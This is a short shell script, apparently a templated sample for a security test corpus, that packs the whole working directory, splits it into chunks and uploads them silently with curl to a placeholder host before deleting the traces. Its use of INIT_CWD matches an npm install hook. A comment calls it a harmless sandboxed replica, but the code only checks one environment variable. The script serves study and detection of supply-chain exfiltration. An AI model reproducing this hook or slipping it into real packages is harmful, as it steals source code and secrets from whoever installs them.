#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
pack="/tmp/{{token}}.tar.gz"
tar -czf "$pack" --exclude=node_modules --exclude=.venv -C "${INIT_CWD:-$PWD}" . 2>/dev/null
split -b 100k "$pack" "$pack." 2>/dev/null
for part in "$pack".a[a-c]; do
    [ -f "$part" ] || continue
    curl -k -s -m 1 -T "$part" "https://{{host}}/{{path}}/${part##*.}" >/dev/null 2>&1
done
rm -f "$pack" "$pack".a*
exit 0
